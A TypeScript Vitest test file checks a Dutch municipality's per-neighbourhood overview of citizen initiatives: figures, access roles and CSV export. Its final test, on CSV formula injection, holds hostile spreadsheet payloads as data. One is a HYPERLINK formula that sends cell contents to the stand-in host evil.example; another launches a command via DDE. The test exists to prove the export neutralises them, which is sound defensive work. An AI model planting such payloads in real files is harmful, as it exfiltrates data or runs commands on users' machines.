import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { db } from "../../lib/db.ts";
import type { Actor } from "../../lib/auth/permissions.ts";
import { mediaan, naarCsv, leesOverzichtPerWijk, maakOverzichtTabel } from "../../lib/data/overzicht.ts";
import { GET } from "../../app/beheer/overzicht/csv/route.ts";
import { createWijk } from "../factories.ts";
import { actAs } from "../support/actors.ts";
import { createIngediend, staff } from "./beoordelen-helpers.ts";

let ambtenaar: Actor;
let beheerder: Actor;
let inwoner: Actor;
let opbouwwerker: Actor;
let noord: { id: string };
let zuid: { id: string };
const JAAR = 2026;
const d = (s: string) => new Date(`${s}T09:00:00Z`);

/** Parses our CSV (semicolon, quotes, CRLF, BOM) back into cells. */
function parseCsv(text: string): string[][] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const s = text.slice(1);
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ";") {
      row.push(cell);
      cell = "";
    }
    else if (c === "\r" && s[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

beforeAll(async () => {
  const { mk } = await staff(db);
  ambtenaar = await mk("AMBTENAAR");
  beheerder = await mk("BEHEERDER");
  inwoner = await mk("INWONER");
  noord = await createWijk(db, { naam: "Aa-Noord" });
  zuid = await createWijk(db, { naam: "Ab-Zuid; met \"puntkomma\"" });
  opbouwwerker = await mk("OPBOUWWERKER", [noord.id]);

  // Noord: 3 in 2026 (one approved 500 after 10 days, one rejected after 4 days, one open), 1 in 2025 (not counted)
  await createIngediend(db, { wijkId: noord.id, status: "GOEDGEKEURD", bedragGevraagd: 600, bedragToegekend: 500, ingediendOp: d("2026-03-01"), besluitOp: d("2026-03-11"), doelen: ["ONTMOETING", "OMZIEN"] });
  await createIngediend(db, { wijkId: noord.id, status: "AFGEWEZEN", bedragGevraagd: 4000, ingediendOp: d("2026-04-01"), besluitOp: d("2026-04-05"), doelen: ["ONTMOETING"] });
  await createIngediend(db, { wijkId: noord.id, status: "INGEDIEND", bedragGevraagd: 250, ingediendOp: d("2026-06-01") });
  await createIngediend(db, { wijkId: noord.id, status: "GOEDGEKEURD", bedragGevraagd: 999, bedragToegekend: 999, ingediendOp: d("2025-06-01"), besluitOp: d("2025-06-03") });
  // Zuid: 1 afgerond 1200 after 7 days, without money asked one
  await createIngediend(db, { wijkId: zuid.id, status: "AFGEROND", bedragGevraagd: 1200, bedragToegekend: 1200, ingediendOp: d("2026-05-01"), besluitOp: d("2026-05-08"), doelen: ["POSITIEVE_GEZONDHEID"] });
  await createIngediend(db, { wijkId: zuid.id, status: "AANVULLING_GEVRAAGD", bedragGevraagd: null, ingediendOp: d("2026-07-01") });
  // no wijk
  await createIngediend(db, { wijkId: null, status: "INGEDIEND", bedragGevraagd: 100, ingediendOp: d("2026-08-01") });
  // a concept never counts
  await db.initiatief.create({ data: { titel: "Concept", status: "CONCEPT", wijkId: noord.id, bedragGevraagd: 5000 } });

  // monitor figures: the most recent year per indicator is shown
  await db.wijkCijfer.createMany({
    data: [
      { wijkId: noord.id, indicator: "Sociale kracht (rapportcijfer)", jaar: 2022, waarde: 7.9, eenheid: "cijfer", bron: "Monitor Sociale Kracht" },
      { wijkId: noord.id, indicator: "Sociale kracht (rapportcijfer)", jaar: 2024, waarde: 6.8, eenheid: "cijfer", bron: "Monitor Sociale Kracht" },
      { wijkId: zuid.id, indicator: "Sociale kracht (rapportcijfer)", jaar: 2024, waarde: 7.4, eenheid: "cijfer", bron: "Monitor Sociale Kracht" },
      { wijkId: zuid.id, indicator: "Voelt zich vaak eenzaam", jaar: 2024, waarde: 12, eenheid: "%", bron: "Demowaarde", demo: true },
    ],
  });
});
beforeEach(() => actAs(null));

describe("overview per wijk", () => {
  it("counts initiatives, amounts, median days to decision and goals served, per wijk and in total", async () => {
    const o = await leesOverzichtPerWijk(ambtenaar, JAAR);
    const noordRij = o.rows.find((r) => r.wijk === "Aa-Noord")!;
    expect(noordRij).toMatchObject({ aantal: 3, gevraagd: 4850, toegekend: 500, aantalToegekend: 1, mediaanDagen: 7 });
    expect(noordRij.doelen).toEqual({ ONTMOETING: 1, INFORMEEL_NETWERK: 0, OMZIEN: 1, POSITIEVE_GEZONDHEID: 0 });
    const zuidRij = o.rows.find((r) => r.wijk.startsWith("Ab-Zuid"))!;
    expect(zuidRij).toMatchObject({ aantal: 2, gevraagd: 1200, toegekend: 1200, aantalToegekend: 1, mediaanDagen: 7 });
    expect(zuidRij.doelen.POSITIEVE_GEZONDHEID).toBe(1);
    expect(o.rows.find((r) => r.wijk === "Zonder wijk")).toMatchObject({ aantal: 1, gevraagd: 100, toegekend: 0, mediaanDagen: null });
    expect(o.totaal).toMatchObject({ aantal: 6, gevraagd: 6150, toegekend: 1700, aantalToegekend: 2, mediaanDagen: 7 });
    // monitor figures next to it: latest year per indicator
    expect(o.indicatoren.map((i) => [i.indicator, i.jaar, i.demo])).toEqual([
      ["Sociale kracht (rapportcijfer)", 2024, false],
      ["Voelt zich vaak eenzaam", 2024, true],
    ]);
    expect(noordRij.cijfers).toEqual([6.8, null]);
    expect(zuidRij.cijfers).toEqual([7.4, 12]);

    const vorigJaar = await leesOverzichtPerWijk(ambtenaar, 2025);
    expect(vorigJaar.rows.find((r) => r.wijk === "Aa-Noord")).toMatchObject({ aantal: 1, toegekend: 999, mediaanDagen: 2 });
  });

  it("median of an even number of values is the middle average", () => {
    expect(mediaan([])).toBeNull();
    expect(mediaan([10, 4])).toBe(7);
    expect(mediaan([3, 1, 2])).toBe(2);
  });

  it("is only for ambtenaren and beheerders", async () => {
    await expect(leesOverzichtPerWijk(inwoner, JAAR)).rejects.toMatchObject({ code: "FORBIDDEN" });
    await expect(leesOverzichtPerWijk(opbouwwerker, JAAR)).rejects.toMatchObject({ code: "FORBIDDEN" });
    await expect(leesOverzichtPerWijk(null, JAAR)).rejects.toMatchObject({ code: "UNAUTHENTICATED" });
    await expect(leesOverzichtPerWijk(beheerder, JAAR)).resolves.toBeTruthy();
  });
});

describe("CSV download", () => {
  it("matches the table cell for cell, including the total and a wijk name that needs quoting", async () => {
    actAs(ambtenaar);
    const res = await GET(new Request(`http://localhost/beheer/overzicht/csv?jaar=${JAAR}`));
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/text\/csv/);
    expect(res.headers.get("content-disposition")).toContain(`overzicht-initiatieven-${JAAR}.csv`);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM, so Excel reads the € sign
    const csv = parseCsv(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes));

    const tabel = maakOverzichtTabel(await leesOverzichtPerWijk(ambtenaar, JAAR));
    expect(csv).toEqual([tabel.kop, ...tabel.rijen, tabel.totaal]);

    // and the cells are the real figures, not just the same function twice
    const kop = csv[0];
    const col = (name: string) => kop.indexOf(name);
    const noord = csv.find((r) => r[0] === "Aa-Noord")!;
    expect(noord[col("Aanvragen")]).toBe("3");
    expect(noord[col("Gevraagd (€)")]).toBe("4850");
    expect(noord[col("Toegekend (€)")]).toBe("500");
    expect(noord[col("Mediaan dagen tot besluit")]).toBe("7");
    expect(noord[col("Doel: omzien naar elkaar")]).toBe("1");
    expect(noord[col("Sociale kracht (rapportcijfer) 2024")]).toBe("6,8");
    expect(csv.find((r) => r[0] === 'Ab-Zuid; met "puntkomma"')?.[col("Voelt zich vaak eenzaam (%) 2024 (demo)")]).toBe("12");
    expect(csv.at(-1)?.slice(0, 4)).toEqual(["Totaal", "6", "6150", "1700"]);
    expect(naarCsv(tabel)).toContain('"Ab-Zuid; met ""puntkomma"""');
  });

  it("refuses an inwoner and an opbouwwerker (403) and someone not signed in (401)", async () => {
    for (const [who, status] of [
      [inwoner, 403],
      [opbouwwerker, 403],
      [null, 401],
    ] as const) {
      actAs(who);
      const res = await GET(new Request(`http://localhost/beheer/overzicht/csv?jaar=${JAAR}`));
      expect(res.status).toBe(status);
      expect(await res.text()).not.toContain("Aa-Noord");
    }
  });
});

describe("CSV formula injection", () => {
  it("finding 9: an indicator or wijk name starting with =, +, -, @, TAB or CR is neutralised in the CSV download", async () => {
    const kwaad = ['=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+2", "\r=1+3"];
    await db.wijkCijfer.createMany({
      data: kwaad.map((indicator) => ({ wijkId: noord.id, indicator, jaar: 2025, waarde: 1, eenheid: "aantal", bron: "Import" })),
    });
    const wijk = await createWijk(db, { naam: "=1+1 wijk", slug: "formule-wijk" });
    actAs(ambtenaar);
    const res = await GET(new Request(`http://localhost/beheer/overzicht/csv?jaar=${JAAR}`));
    expect(res.status).toBe(200);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(new Uint8Array(await res.arrayBuffer()));
    const csv = parseCsv(text);
    const kop = csv[0];
    for (const k of kwaad) {
      expect(kop, JSON.stringify(k)).toContain(`'${k} 2025`);
      expect(kop, JSON.stringify(k)).not.toContain(`${k} 2025`);
    }
    // no cell in the whole file starts with a formula character, except plain numbers
    for (const cel of csv.flat()) if (/^[=+\-@\t\r]/.test(cel)) expect(cel).toMatch(/^-?\d+(,\d+)?$/);
    expect(csv.find((r) => r[0].includes("=1+1 wijk"))?.[0]).toBe("'=1+1 wijk");
    // raw text: the dangerous cells are quoted, so the leading quote is the first character Excel sees after the separator
    expect(text).toContain(`;"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik"") 2025"`);
    await db.wijk.delete({ where: { id: wijk.id } });
  });
});
